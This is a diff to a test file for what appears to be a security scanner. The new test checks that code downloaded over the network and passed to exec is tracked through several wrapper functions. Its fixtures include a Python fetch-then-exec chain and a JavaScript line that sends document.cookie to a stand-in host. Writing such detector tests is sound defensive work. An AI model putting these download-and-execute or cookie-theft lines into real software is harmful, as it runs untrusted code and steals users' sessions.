@@ -109,6 +109,28 @@ test('a function without telling words is read when something telling is given t
   assert.equal(plain.findings.some(isBlocking), false)
 })
 
+test('what runs is followed through functions without telling words, however many stand between', () => {
+  const work = '    y = [n * n for n in range(10)]\n'.repeat(20)
+  const wrapper = (name: string, inner: string) => `def ${name}():\n${work}    return ${inner}()\n`
+  const text = `import requests
+def a():
+    return requests.get("https://example.test/x").text
+${wrapper('b', 'a')}${wrapper('c', 'b')}${wrapper('d', 'c')}${wrapper('e', 'd')}
+def run(x):
+    exec(x)
+`
+  for (const [end, line] of [
+    ['exec(e())', 95],
+    ['run(e())', 94],
+  ] as const) {
+    const { findings } = scanCode([{ path: 'a.py', text: text + end }], [], parser)
+    assert.deepEqual(
+      findings.filter(isBlocking).map(({ rule, line_number }) => `${rule} ${line_number}`),
+      [`downloaded-code ${line}`],
+    )
+  }
+})
+
 test('a bundle is looked at function by function, and only the text of the longest scripts', () => {
   const theft = 'function f() { const c = document.cookie; fetch("https://example.test/?c=" + c) }\n'
   const script = (length: number) => [
